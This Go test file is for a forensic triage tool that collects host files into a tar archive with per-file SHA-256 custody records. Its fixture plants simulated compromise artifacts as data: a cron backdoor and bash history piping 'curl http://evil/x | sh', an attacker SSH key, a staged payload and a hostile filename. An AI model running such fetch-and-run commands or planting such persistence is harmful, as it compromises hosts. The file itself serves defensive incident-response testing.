package artifact

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

// tarMember is one member of a files artifact as a reader sees it.
type tarMember struct {
	hdr  *tar.Header
	data []byte
}

// readTriage parses a files artifact, checks every member's CUSTODY.sha256
// against its content, and returns the members by name and the index.
func readTriage(t *testing.T, out []byte) (map[string]tarMember, []triageIndexRecord, map[string]string) {
	t.Helper()
	tr := tar.NewReader(bytes.NewReader(out))
	members := map[string]tarMember{}
	var names []string
	var global map[string]string
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("not a valid tar: %v", err)
		}
		if hdr.Typeflag == tar.TypeXGlobalHeader {
			global = hdr.PAXRecords
			continue
		}
		data, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		if hdr.Format != tar.FormatPAX && hdr.Format != tar.FormatUnknown {
			t.Errorf("%s: format %v, want PAX", hdr.Name, hdr.Format)
		}
		if hdr.Typeflag == tar.TypeReg {
			sum := sha256.Sum256(data)
			if got := hdr.PAXRecords["CUSTODY.sha256"]; got != hex.EncodeToString(sum[:]) {
				t.Errorf("%s: CUSTODY.sha256 %q does not match its content", hdr.Name, got)
			}
		}
		members[hdr.Name] = tarMember{hdr, data}
		names = append(names, hdr.Name)
	}
	if len(names) == 0 || names[len(names)-1] != "index.jsonl" {
		t.Fatalf("last member is not index.jsonl: %q", names)
	}
	index := decodeLines[triageIndexRecord](t, members["index.jsonl"].data)
	return members, index, global
}

// triageTree builds a small host: what the defaults capture, what they
// must not, and the traps.
func triageTree(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	write := func(rel, content string, mode os.FileMode) {
		t.Helper()
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), mode); err != nil {
			t.Fatal(err)
		}
	}
	link := func(target, rel string) {
		t.Helper()
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
	}
	write("etc/passwd", "root:x:0:0::/root:/bin/bash\n", 0o644)
	write("etc/shadow", "root:$6$salt$hash:19000::::::\n", 0o600)
	write("etc/cron.d/backdoor", "* * * * * root curl http://evil/x | sh\n", 0o644)
	write("root/.bash_history", "curl http://evil/x | sh\nhistory -c\n", 0o600)
	write("home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker@evil\n", 0o600)
	link("/dev/null", "home/alice/.bash_history")
	link("/root/.ssh", "home/bob/.ssh") // a symlinked directory the glob passes through
	write("root/.ssh/authorized_keys", "ssh-ed25519 AAAA root@admin\n", 0o600)
	write("var/log/syslog", strings.Repeat("Nov 22 sshd[1]: Accepted publickey for root\n", 30000), 0o640) // 1.3 MB: two passes
	write("var/log/nested/app.log", "started\n", 0o644)
	write("var/log/huge.log", strings.Repeat("x", 2<<20), 0o644)
	write("var/log/evil\nname\xff.log", "hostile name\n", 0o644)
	if err := syscall.Mkfifo(filepath.Join(root, "var/log/fifo"), 0o600); err != nil {
		t.Fatal(err)
	}
	write("tmp/payload.elf", "\x7fELF staged payload", 0o755)
	write("dev/shm/.x/y", "in shared memory", 0o644)
	mtime := time.Date(2024, 2, 29, 12, 0, 0, 123456789, time.UTC)
	if err := os.Chtimes(filepath.Join(root, "etc/cron.d/backdoor"), mtime, mtime); err != nil {
		t.Fatal(err)
	}
	return root
}

func TestFilesDefaults(t *testing.T) {
	root := triageTree(t)
	env := Env{HostRoot: root, Now: fixedNow}
	out, res := collect(t, "files", env, Params{"max_file_size": "1536KiB"})
	members, index, global := readTriage(t, out)

	if global["CUSTODY.root"] != root {
		t.Errorf("global header = %v", global)
	}
	byPath := map[string]triageIndexRecord{}
	for _, r := range index {
		if _, dup := byPath[r.Path]; dup {
			t.Errorf("%s indexed twice", r.Path)
		}
		byPath[r.Path] = r
	}
	content := func(name string) string { return string(members[name].data) }

	for path, want := range map[string]string{
		"/etc/passwd":                      "root:x:0:0::/root:/bin/bash\n",
		"/etc/cron.d/backdoor":             "* * * * * root curl http://evil/x | sh\n",
		"/root/.bash_history":              "curl http://evil/x | sh\nhistory -c\n",
		"/home/alice/.ssh/authorized_keys": "ssh-ed25519 AAAA attacker@evil\n",
		"/root/.ssh/authorized_keys":       "ssh-ed25519 AAAA root@admin\n",
		"/var/log/nested/app.log":          "started\n",
		"/var/log/evil\nname\xff.log":      "hostile name\n",
	} {
		r := byPath[strings.ToValidUTF8(path, "\ufffd")]
		sum := sha256.Sum256([]byte(want))
		if r.Status != "captured" || r.SHA256 != hex.EncodeToString(sum[:]) || r.TarName != strings.ToValidUTF8("fs"+path, "\ufffd") || content("fs"+path) != want {
			t.Errorf("%q: index %+v, member %q", path, r, content("fs"+path))
		}
		// JSON cannot hold the raw bytes of an invalid name; path_base64
		// does, and only then.
		if raw, _ := base64.StdEncoding.DecodeString(r.PathBase64); utf8.ValidString(path) != (r.PathBase64 == "") || (r.PathBase64 != "" && string(raw) != path) {
			t.Errorf("%q: path_base64 %q", path, r.PathBase64)
		}
	}
	// The two-pass path for a file larger than one read.
	syslog := byPath["/var/log/syslog"]
	if syslog.Status != "captured" || syslog.Size != 1320000 || syslog.Changed || len(members["fs/var/log/syslog"].data) != 1320000 {
		t.Errorf("syslog = %+v", syslog)
	}
	// Metadata travels in the PAX header to the nanosecond.
	cron := members["fs/etc/cron.d/backdoor"].hdr
	if !cron.ModTime.Equal(time.Date(2024, 2, 29, 12, 0, 0, 123456789, time.UTC)) || cron.Mode != 0o644 ||
		byPath["/etc/cron.d/backdoor"].Mtime != "2024-02-29T12:00:00.123456789Z" {
		t.Errorf("cron header mtime %v mode %o, index mtime %s", cron.ModTime, cron.Mode, byPath["/etc/cron.d/backdoor"].Mtime)
	}

	// Symlinks are recorded, not followed: neither the leaf nor a
	// directory on the way.
	hist := byPath["/home/alice/.bash_history"]
	if hist.Status != "recorded" || hist.Type != "symlink" || hist.LinkTarget != "/dev/null" ||
		members["fs/home/alice/.bash_history"].hdr.Typeflag != tar.TypeSymlink || members["fs/home/alice/.bash_history"].hdr.Linkname != "/dev/null" {
		t.Errorf("symlinked history = %+v", hist)
	}
	if bob := byPath["/home/bob/.ssh"]; bob.Type != "symlink" || bob.LinkTarget != "/root/.ssh" {
		t.Errorf("symlinked .ssh directory = %+v", bob)
	}
	if _, ok := byPath["/home/bob/.ssh/authorized_keys"]; ok {
		t.Error("followed the /home/bob/.ssh symlink")
	}
	// A FIFO is recorded and never opened (the test would hang if it were).
	if fifo := byPath["/var/log/fifo"]; fifo.Status != "recorded" || fifo.Type != "pipe" || members["fs/var/log/fifo"].hdr.Typeflag != tar.TypeFifo {
		t.Errorf("fifo = %+v", fifo)
	}
	if huge := byPath["/var/log/huge.log"]; huge.Status != "skipped" || !strings.Contains(huge.Reason, "max_file_size") || huge.Size != 2<<20 {
		t.Errorf("huge = %+v", huge)
	}
	if _, ok := members["fs/var/log/huge.log"]; ok {
		t.Error("a file over max_file_size is in the tar")
	}
	// Listings: metadata in the index, nothing in the tar.
	for _, p := range []string{"/tmp/payload.elf", "/dev/shm/.x", "/dev/shm/.x/y"} {
		if r := byPath[p]; r.Status != "listed" || r.SHA256 != "" {
			t.Errorf("%s = %+v, want listed", p, r)
		}
		if _, ok := members["fs"+p]; ok {
			t.Errorf("%s is in the tar", p)
		}
	}
	if _, ok := byPath["/etc/shadow"]; ok {
		t.Error("/etc/shadow captured without sensitive=true")
	}
	for k, want := range map[string]string{"files_captured": "8", "files_listed": "3", "files_skipped": "1", "errors": "0", "root": root} {
		if res.Details[k] != want {
			t.Errorf("Details[%s] = %q, want %q (all %v)", k, res.Details[k], want, res.Details)
		}
	}
	sum := sha256.Sum256(members["index.jsonl"].data)
	if members["index.jsonl"].hdr.PAXRecords["CUSTODY.sha256"] != hex.EncodeToString(sum[:]) {
		t.Error("index.jsonl has no matching CUSTODY.sha256")
	}
	// The index's shape, for jq and DuckDB: every line has these columns.
	for _, l := range bytes.Split(bytes.TrimSuffix(members["index.jsonl"].data, []byte("\n")), []byte("\n")) {
		var m map[string]any
		if err := json.Unmarshal(l, &m); err != nil {
			t.Fatalf("%q: %v", l, err)
		}
		for _, k := range []string{"path", "status", "type", "mode", "mtime", "pattern"} {
			if _, ok := m[k]; !ok {
				t.Errorf("%q lacks %s", l, k)
			}
		}
	}
}

func TestFilesSensitiveAndGlobs(t *testing.T) {
	root := triageTree(t)
	env := Env{HostRoot: root}
	out, _ := collect(t, "files", env, Params{"sensitive": "true", "globs": "/etc/cron.d/*, list:/root/**"})
	_, index, _ := readTriage(t, out)
	var got []string
	for _, r := range index {
		got = append(got, r.Path+" "+r.Status)
	}
	want := []string{
		"/etc/shadow captured", "/etc/cron.d/backdoor captured",
		"/root/.bash_history listed", "/root/.ssh listed", "/root/.ssh/authorized_keys listed",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("globs replace the defaults, sensitive adds shadow (-want +got):\n%s", diff)
	}
}

func TestFilesTotalCap(t *testing.T) {
	root := triageTree(t)
	out, res := collect(t, "files", Env{HostRoot: root}, Params{"globs": "/etc/passwd,/var/log/syslog,/root/.bash_history", "max_total_size": "1MiB"})
	_, index, _ := readTriage(t, out)
	status := map[string]string{}
	for _, r := range index {
		status[r.Path] = r.Status + " " + r.Reason
	}
	if status["/etc/passwd"] != "captured " || status["/root/.bash_history"] != "captured " ||
		!strings.HasPrefix(status["/var/log/syslog"], "skipped max_total_size") {
		t.Errorf("statuses = %q", status)
	}
	if res.Details["bytes_captured"] != "63" {
		t.Errorf("bytes_captured = %s", res.Details["bytes_captured"])
	}
}

func TestFilesBadParams(t *testing.T) {
	k, _ := Lookup("files")
	for _, p := range []Params{
		{"globs": "etc/passwd"},
		{"globs": "/etc/../etc/passwd"},
		{"globs": "/etc/[passwd"},
		{"globs": " , "},
		{"globs": "/"},
		{"max_file_size": "lots"},
		{"max_total_size": "-1"},
		{"sensitive": "maybe"},
		{"container": "abc"},
		{"container": "-3"},
	} {
		var buf bytes.Buffer
		_, err := k.Collect(context.Background(), fakeEnv(), p, &buf)
		if !errors.Is(err, ErrBadParam) {
			t.Errorf("%v: err = %v, want ErrBadParam", p, err)
		}
		if buf.Len() != 0 {
			t.Errorf("%v: wrote %d bytes", p, buf.Len())
		}
	}
}

func TestParseByteSize(t *testing.T) {
	for in, want := range map[string]int64{"1048576": 1 << 20, "64MiB": 64 << 20, "64m": 64 << 20, "1GiB": 1 << 30, "512k": 512 << 10, " 2 G ": 2 << 30} {
		if got, err := parseByteSize(in); err != nil || got != want {
			t.Errorf("parseByteSize(%q) = %d, %v; want %d", in, got, err, want)
		}
	}
	for _, in := range []string{"", "MiB", "1.5GiB", "9999999999999GiB"} {
		if _, err := parseByteSize(in); err == nil {
			t.Errorf("parseByteSize(%q) succeeded", in)
		}
	}
}

// TestFilesContainerFixture resolves paths in a process's root, found by
// pid or by container id, in the fake /proc: the container's /etc/passwd,
// not the host's.
func TestFilesContainerFixture(t *testing.T) {
	want := "root:x:0:0:root:/root:/bin/sh\nnginx:x:101:101:nginx:/nonexistent:/bin/false\n"
	for _, c := range []string{"777", "3f4e5d6c7b8a", "3f4e5d6c7b8a99887766554433221100ffeeddccbbaa00998877665544332211"} {
		out, res := collect(t, "files", fakeEnv(), Params{"container": c, "globs": "/etc/passwd"})
		members, _, global := readTriage(t, out)
		if got := string(members["fs/etc/passwd"].data); got != want {
			t.Errorf("container=%s: /etc/passwd = %q, want the container's", c, got)
		}
		if global["CUSTODY.container_pid"] != "777" || res.Details["container_pid"] != "777" {
			t.Errorf("container=%s: global %v details %v", c, global, res.Details)
		}
	}
	k, _ := Lookup("files")
	if _, err := k.Collect(context.Background(), fakeEnv(), Params{"container": "ffffffffffff"}, io.Discard); err == nil {
		t.Error("an unknown container id was accepted")
	}
}

func TestFilesCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	k, _ := Lookup("files")
	var buf bytes.Buffer
	if _, err := k.Collect(ctx, Env{HostRoot: triageTree(t)}, nil, &buf); !errors.Is(err, context.Canceled) {
		t.Errorf("err = %v, want context.Canceled", err)
	}
}
